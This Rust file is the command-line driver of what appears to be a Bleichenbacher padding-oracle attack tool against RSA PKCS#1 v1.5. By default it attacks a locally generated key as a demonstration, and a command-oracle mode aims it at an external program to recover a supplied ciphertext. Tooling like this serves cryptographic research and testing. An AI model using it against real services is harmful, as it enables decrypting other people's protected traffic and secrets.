use std::path::PathBuf;

use anyhow::{anyhow, bail, Context, Result};
use clap::Parser;
use num::bigint::BigUint;
use rand::{thread_rng, Rng};
use tracing::{info, warn, Level};
use tracing_subscriber::FmtSubscriber;

use bleichenbacher::config::{AttackConfig, OracleKind, Variant};
use bleichenbacher::oracle::{CommandOracle, Oracle, PlaintextOracle, QueryLimit, RsaOracle};
use bleichenbacher::pkcs1::{self, PREMASTER_SECRET_LEN};
use bleichenbacher::{Bleichenbacher, CoarseBounds, CoarseSearch};

/// Bleichenbacher padding oracle attack against RSA PKCS#1 v1.5
///
/// Without a command oracle, a fresh key and premaster secret are generated
/// and the attack is run against a local oracle as a demonstration.
#[derive(Parser, Debug)]
#[command(name = "bleichenbacher", version, about)]
struct Args {
    /// TOML attack profile
    #[arg(short, long, value_name = "FILE")]
    config: Option<PathBuf>,

    /// Override the attack variant from the profile
    #[arg(long, value_enum)]
    variant: Option<Variant>,

    /// Hex ciphertext to recover, required with a command oracle
    #[arg(long, value_name = "HEX")]
    ciphertext: Option<String>,

    /// Log every found multiplier and interval count
    #[arg(short, long)]
    verbose: bool,

    /// Print the effective profile as TOML and exit
    #[arg(long)]
    print_config: bool,
}

enum Outcome {
    Recovered(Vec<u8>),
    Bounds(CoarseBounds),
}

fn main() -> Result<()> {
    let args = Args::parse();

    // respect RUST_LOG unless --verbose
    let log_level = if args.verbose {
        Level::DEBUG
    } else {
        std::env::var("RUST_LOG")
            .ok()
            .and_then(|s| s.parse::<Level>().ok())
            .unwrap_or(Level::INFO)
    };
    let subscriber = FmtSubscriber::builder().with_max_level(log_level).finish();
    tracing::subscriber::set_global_default(subscriber).context("failed to set subscriber")?;

    let mut config = match &args.config {
        Some(path) => AttackConfig::from_file(path).with_context(|| format!("loading {}", path.display()))?,
        None => AttackConfig::default(),
    };
    if let Some(variant) = args.variant {
        config.attack.variant = variant;
    }
    config.validate()?;

    if args.print_config {
        print!("{}", config.to_toml()?);
        return Ok(());
    }

    match config.oracle.kind {
        OracleKind::Plaintext => {
            let key = RsaOracle::generate(config.oracle.key, config.oracle.oracle_type)?;
            let mut oracle = PlaintextOracle::new(key.public_key().clone(), config.oracle.oracle_type);
            let block = premaster_block(oracle.block_size())?;
            demo(&config, &mut oracle, &block, &block)
        }
        OracleKind::Rsa => {
            let mut oracle = RsaOracle::generate(config.oracle.key, config.oracle.oracle_type)?;
            let block = premaster_block(oracle.block_size())?;
            let ciphertext = oracle.encrypt(&block)?;
            demo(&config, &mut oracle, &ciphertext, &block)
        }
        OracleKind::Command => {
            let public_key = config.command_public_key()?;
            let program = config
                .oracle
                .program
                .clone()
                .ok_or_else(|| anyhow!("command oracle requires oracle.program"))?;
            let hex_ciphertext = args
                .ciphertext
                .as_deref()
                .ok_or_else(|| anyhow!("--ciphertext is required with a command oracle"))?;
            let ciphertext = hex::decode(hex_ciphertext.trim()).context("invalid --ciphertext")?;

            let mut oracle = CommandOracle::new(program, config.oracle.args.clone(), public_key)
                .plaintext(config.oracle.plaintext)
                .with_oracle_type(config.oracle.oracle_type);
            let outcome = run(&config, &mut oracle, &ciphertext)?;
            report(&outcome, oracle.number_of_queries());
            Ok(())
        }
    }
}

// PKCS#1 block wrapping a random premaster secret, shortened for small keys
fn premaster_block(block_size: usize) -> Result<Vec<u8>> {
    let mut rng = thread_rng();
    let len = PREMASTER_SECRET_LEN.min(block_size.saturating_sub(11));
    let mut secret = vec![0_u8; len];
    rng.fill(secret.as_mut_slice());
    Ok(pkcs1::encode(&secret, block_size, &mut rng)?)
}

fn demo<O: Oracle>(config: &AttackConfig, oracle: &mut O, input: &[u8], expected: &[u8]) -> Result<()> {
    info!(block = %hex::encode(expected), "generated target block");
    let n = oracle.public_key().n.clone();

    let outcome = run(config, oracle, input)?;
    report(&outcome, oracle.number_of_queries());

    match outcome {
        Outcome::Recovered(recovered) if recovered != expected => {
            bail!("recovered block differs from the generated one")
        }
        Outcome::Bounds(bounds) => {
            let blinded = (&bounds.s0 * BigUint::from_bytes_be(expected)) % &n;
            if !bounds.interval.contains(&blinded) {
                warn!("coarse bounds do not contain the generated block");
            }
            Ok(())
        }
        _ => Ok(()),
    }
}

fn run<O: Oracle>(config: &AttackConfig, oracle: &mut O, ciphertext: &[u8]) -> Result<Outcome> {
    if config.attack.query_limit > 0 {
        let mut limited = QueryLimit::new(oracle, config.attack.query_limit);
        run_variant(config, &mut limited, ciphertext)
    } else {
        run_variant(config, oracle, ciphertext)
    }
}

fn run_variant<O: Oracle + ?Sized>(config: &AttackConfig, oracle: &mut O, ciphertext: &[u8]) -> Result<Outcome> {
    let attack = &config.attack;
    let outcome = match attack.variant {
        Variant::Canonical => {
            let mut engine = Bleichenbacher::new(ciphertext, oracle, attack.msg_is_pkcs)?
                .with_progress_interval(attack.progress_interval);
            Outcome::Recovered(engine.attack()?)
        }
        Variant::Trimming => {
            let mut engine = Bleichenbacher::new(ciphertext, oracle, attack.msg_is_pkcs)?
                .with_progress_interval(attack.progress_interval)
                .with_trimming(attack.max_trimmer);
            Outcome::Recovered(engine.attack()?)
        }
        Variant::Coarse => {
            let mut search = CoarseSearch::new(ciphertext, oracle, attack.msg_is_pkcs, config.coarse.clone())?
                .with_progress_interval(attack.progress_interval);
            Outcome::Bounds(search.run()?)
        }
    };
    Ok(outcome)
}

fn report(outcome: &Outcome, queries: u64) {
    match outcome {
        Outcome::Recovered(block) => println!("recovered: {}", hex::encode(block)),
        Outcome::Bounds(bounds) => {
            println!("bounds:    {}", bounds.interval);
            println!("s0:        {:x}", bounds.s0);
        }
    }
    println!("queries:   {}", queries);
}
